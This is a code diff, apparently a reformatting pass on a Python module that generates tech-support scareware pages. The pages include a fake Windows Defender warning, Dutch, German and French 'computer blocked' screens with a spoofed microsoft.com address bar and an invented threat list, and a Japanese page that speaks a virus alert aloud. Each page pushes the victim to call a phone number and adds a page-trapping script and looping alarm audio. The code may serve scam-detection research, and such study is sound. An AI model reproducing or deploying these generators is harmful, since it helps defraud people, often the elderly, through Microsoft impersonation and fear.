@@ -40,6 +40,7 @@ def _audio(src: str) -> str:
 
 # --- 11. "Windows Defender Security Warning" over a fake desktop ------------------------
 
+
 def defender_warning(spec: Spec, rng: Random) -> Drafts:
     number = spec.phones[0]
     s = Sheet()
@@ -49,18 +50,22 @@ def defender_warning(spec: Spec, rng: Random) -> Drafts:
     body = (
         '<div class="desktop"><div class="taskbar"></div>'
         '<div class="dialog" role="alertdialog"><div class="titlebar">Windows Defender - Security Warning</div>'
-        f'<h2>** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS **</h2>'
-        '<p>Your computer has alerted us that it has been infected with a Trojan Spyware. The following data has been compromised:</p>'
-        '<ul><li>Email credentials</li><li>Banking passwords</li><li>Facebook login</li><li>Pictures &amp; documents</li></ul>'
-        '<p>Windows Defender Scan has found potentially unwanted Adware on this device that can steal your passwords, online identity, financial information, personal files, pictures or documents.</p>'
-        f'<p>You must contact us immediately so that our engineers can walk you through the removal process over the phone.</p>'
+        f"<h2>** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS **</h2>"
+        "<p>Your computer has alerted us that it has been infected with a Trojan Spyware. The following data has been compromised:</p>"
+        "<ul><li>Email credentials</li><li>Banking passwords</li><li>Facebook login</li><li>Pictures &amp; documents</li></ul>"
+        "<p>Windows Defender Scan has found potentially unwanted Adware on this device that can steal your passwords, online identity, financial information, personal files, pictures or documents.</p>"
+        f"<p>You must contact us immediately so that our engineers can walk you through the removal process over the phone.</p>"
         f'<p class="err">Error code: {esc(code)}</p>'
         f'<p class="call">Call Microsoft Support: <b>{shown}</b> (Toll Free)</p>'
         '<p class="warn">Do not restart your computer. Closing this page may result in your computer access being disabled to prevent further damage to our network.</p>'
         '<div class="buttons"><button>Deny</button><button class="ok">Allow</button></div></div></div>'
     )
     title_no = write(number, spec.opt("style", "us_dash"))
-    body += _audio("/media/alert-en.mp3") + TRAP_JS + _loop_js(f"Windows Security Alert! Call Microsoft Support {title_no}")
+    body += (
+        _audio("/media/alert-en.mp3")
+        + TRAP_JS
+        + _loop_js(f"Windows Security Alert! Call Microsoft Support {title_no}")
+    )
     parts = themes.Parts("en", f"Security Warning! Call {title_no}", "Windows Defender", body)
     css = "body{background:#0a64ad;margin:0;cursor:none}.dialog{width:620px;margin:8vh auto;background:#fff;border:1px solid #333}.titlebar{background:#1e1e1e;color:#fff;padding:6px}"
     drafts: Drafts = {"/": (themes.plain(parts, css), s)}
@@ -72,18 +77,36 @@ def defender_warning(spec: Spec, rng: Random) -> Drafts:
 # --- 12. "Uw computer is geblokkeerd": fake browser frame with a scan table -------------
 
 BLOCKED_TEXT = {
-    "nl": ("Uw computer is geblokkeerd", "Waarschuwing! Uw computer is geblokkeerd wegens verdachte activiteit.",
-           "Uw computer is geïnfecteerd met virussen. Uw persoonlijke gegevens, wachtwoorden en bankgegevens lopen gevaar.",
-           "Bel de technische ondersteuning van Windows:", "Sluit deze pagina niet en start uw computer niet opnieuw op.",
-           ["Trojan.Win32.Agent", "Spyware.Banker.NL", "Adware.Pop.Gen"], "Gevonden bedreigingen", "Foutcode"),
-    "de": ("Ihr Computer wurde gesperrt", "Warnung! Ihr Computer wurde wegen verdächtiger Aktivitäten gesperrt.",
-           "Ihr Computer ist mit Viren infiziert. Ihre persönlichen Daten, Passwörter und Bankdaten sind in Gefahr.",
-           "Rufen Sie den technischen Windows-Support an:", "Schließen Sie diese Seite nicht und starten Sie den Computer nicht neu.",
-           ["Trojan.Win32.Agent", "Spyware.Banker.DE", "Adware.Pop.Gen"], "Gefundene Bedrohungen", "Fehlercode"),
-    "fr": ("Votre ordinateur est bloqué", "Attention ! Votre ordinateur a été bloqué en raison d'une activité suspecte.",
-           "Votre ordinateur est infecté par des virus. Vos données personnelles, mots de passe et coordonnées bancaires sont en danger.",
-           "Appelez l'assistance technique Windows :", "Ne fermez pas cette page et ne redémarrez pas votre ordinateur.",
-           ["Trojan.Win32.Agent", "Spyware.Banker.FR", "Adware.Pop.Gen"], "Menaces détectées", "Code d'erreur"),
+    "nl": (
+        "Uw computer is geblokkeerd",
+        "Waarschuwing! Uw computer is geblokkeerd wegens verdachte activiteit.",
+        "Uw computer is geïnfecteerd met virussen. Uw persoonlijke gegevens, wachtwoorden en bankgegevens lopen gevaar.",
+        "Bel de technische ondersteuning van Windows:",
+        "Sluit deze pagina niet en start uw computer niet opnieuw op.",
+        ["Trojan.Win32.Agent", "Spyware.Banker.NL", "Adware.Pop.Gen"],
+        "Gevonden bedreigingen",
+        "Foutcode",
+    ),
+    "de": (
+        "Ihr Computer wurde gesperrt",
+        "Warnung! Ihr Computer wurde wegen verdächtiger Aktivitäten gesperrt.",
+        "Ihr Computer ist mit Viren infiziert. Ihre persönlichen Daten, Passwörter und Bankdaten sind in Gefahr.",
+        "Rufen Sie den technischen Windows-Support an:",
+        "Schließen Sie diese Seite nicht und starten Sie den Computer nicht neu.",
+        ["Trojan.Win32.Agent", "Spyware.Banker.DE", "Adware.Pop.Gen"],
+        "Gefundene Bedrohungen",
+        "Fehlercode",
+    ),
+    "fr": (
+        "Votre ordinateur est bloqué",
+        "Attention ! Votre ordinateur a été bloqué en raison d'une activité suspecte.",
+        "Votre ordinateur est infecté par des virus. Vos données personnelles, mots de passe et coordonnées bancaires sont en danger.",
+        "Appelez l'assistance technique Windows :",
+        "Ne fermez pas cette page et ne redémarrez pas votre ordinateur.",
+        ["Trojan.Win32.Agent", "Spyware.Banker.FR", "Adware.Pop.Gen"],
+        "Menaces détectées",
+        "Code d'erreur",
+    ),
 }
 
 
@@ -94,7 +117,10 @@ def blocked_scan(spec: Spec, rng: Random) -> Drafts:
     s.brand(*spec.brands)
     shown = s.num(number, spec.opt("style", "national"))
     code = spec.opt("code", "0x80070424")
-    rows = "".join(f"<tr><td>{esc(t)}</td><td class='red'>{'Hoog' if spec.lang == 'nl' else 'Hoch' if spec.lang == 'de' else 'Élevé'}</td></tr>" for t in threats)
+    rows = "".join(
+        f"<tr><td>{esc(t)}</td><td class='red'>{'Hoog' if spec.lang == 'nl' else 'Hoch' if spec.lang == 'de' else 'Élevé'}</td></tr>"
+        for t in threats
+    )
     body = (
         '<div class="fakebrowser"><div class="addressbar"><span class="lock">🔒</span> https://www.microsoft.com/security/scan</div>'
         f'<div class="scan"><div class="progress"><div class="fill" style="width:87%"></div></div><table class="threats"><caption>{esc(found)}</caption>{rows}</table></div>'
@@ -110,6 +136,7 @@ def blocked_scan(spec: Spec, rng: Random) -> Drafts:
 
 # --- 13. Japanese scareware: fake "virus detected" toast stack with speech synthesis ------
 
+
 def ja_warning(spec: Spec, rng: Random) -> Drafts:
     number = spec.phones[0]
     s = Sheet()
@@ -118,17 +145,27 @@ def ja_warning(spec: Spec, rng: Random) -> Drafts:
     code = spec.opt("code", "0x8024402c")
     toasts = "".join(
         f'<div class="toast"><b>Windows セキュリティ</b><p>{esc(t)}</p></div>'
-        for t in ("ウイルスが検出されました", "個人情報が流出しています", "コンピューターがロックされました")
+        for t in (
+            "ウイルスが検出されました",
+            "個人情報が流出しています",
+            "コンピューターがロックされました",
+        )
     )
     body = (
         f'<div class="stack">{toasts}</div><div class="main-dialog"><h1>Windows のセキュリティ警告</h1>'
-        '<p>お使いのコンピューターはトロイの木馬型スパイウェアに感染しています。クレジットカード情報、パスワード、写真が盗まれる恐れがあります。</p>'
+        "<p>お使いのコンピューターはトロイの木馬型スパイウェアに感染しています。クレジットカード情報、パスワード、写真が盗まれる恐れがあります。</p>"
         f'<p>エラーコード: {esc(code)}</p><p class="tel">サポートへお電話ください: <strong>{shown}</strong>（通話無料）</p>'
-        '<p>このページを閉じたり、パソコンを再起動しないでください。</p></div>'
+        "<p>このページを閉じたり、パソコンを再起動しないでください。</p></div>"
         "<script>\n  var u = new SpeechSynthesisUtterance('警告。お使いのパソコンはウイルスに感染しています。今すぐサポートに電話してください。');\n"
         "  u.lang = 'ja-JP'; setInterval(function () { speechSynthesis.speak(u); }, 9000);\n</script>"
     )
-    body += _audio("/media/keikoku.mp3") + TRAP_JS + _loop_js("ウイルスが検出されました。サポートに電話してください。")
-    parts = themes.Parts("ja", "Windows セキュリティ警告 - サポートに連絡してください", "Windows", body)
+    body += (
+        _audio("/media/keikoku.mp3")
+        + TRAP_JS
+        + _loop_js("ウイルスが検出されました。サポートに電話してください。")
+    )
+    parts = themes.Parts(
+        "ja", "Windows セキュリティ警告 - サポートに連絡してください", "Windows", body
+    )
     css = "body{background:#0078d7;color:#fff;font-family:'Meiryo',sans-serif}.toast{background:#1f1f1f;padding:10px;margin:6px;width:340px}"
     return {"/": (themes.plain(parts, css), s)}
